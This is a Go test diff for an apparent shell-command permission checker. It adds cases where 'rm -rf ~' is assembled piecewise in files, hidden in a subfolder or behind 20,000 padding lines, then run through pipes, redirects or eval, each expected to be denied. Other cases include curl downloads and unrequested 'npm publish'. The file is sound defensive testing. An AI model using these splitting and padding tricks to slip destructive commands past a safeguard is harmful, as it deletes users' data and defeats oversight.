@@ -54,6 +54,9 @@ func TestWrittenFilesAsTheyLie(t *testing.T) {
 		"brought, and harmless":  {changes("curl -so f.sh https://x.example/f", "f.sh", "echo fine\n"), bash("sh f.sh", "deny")},
 		"brought, and added to":  {changes("curl -so g.sh https://x.example/f", "g.sh", "echo fine\n"), changes("echo date >> g.sh", "g.sh", "echo fine\ndate\n"), bash("sh g.sh", "deny")},
 		"not the session's":      {bash("sh theirs.sh", "")},
+		"pieces that are fed":    {changes("printf 'rm -r' > q", "q", "rm -r"), changes("printf 'f ~' >> q", "q", "rm -rf ~"), bash("cat q | sh", "deny"), bash("sh < q", "deny"), bash(`eval "$(cat q)"`, "deny"), bash("cat q", "")},
+		"in another folder":      {changes("mkdir below; printf 'rm -r' > below/q", "q", "date\n"), changes("printf 'f ~' >> below/q", "below/q", "rm -rf ~"), bash("cd below && sh q", "deny")},
+		"long pieces":            {changes("yes '# x' | head -90000 > l.sh", "l.sh", strings.Repeat("# nothing at all\n", 20_000)), changes("cat t >> l.sh", "l.sh", strings.Repeat("# nothing at all\n", 20_000)+"rm -rf ~\n"), bash("sh l.sh", "deny")},
 		"what it takes in":       {write("a.py", "import b\nb.go()\n"), write("b.py", "import os\ndef go(): os.system('npm publish')\n"), bash("python3 a.py", "deny")},
 		"a script runs a script": {write("in.sh", "npm publish\n"), write("out.sh", "echo\n./in.sh\n"), bash("sh out.sh", "deny")},
 	} {
@@ -89,6 +92,9 @@ func TestWrittenFilesAsTheyLie(t *testing.T) {
 					t.Errorf("call %d, %v: want %s: %.600s", i, c.args, want, answer)
 				}
 				for file, text := range c.disk {
+					if err := os.MkdirAll(filepath.Dir(filepath.Join(dir, file)), 0o700); err != nil {
+						t.Fatal(err)
+					}
 					if err := os.WriteFile(filepath.Join(dir, file), []byte(text), 0o700); err != nil {
 						t.Fatal(err)
 					}
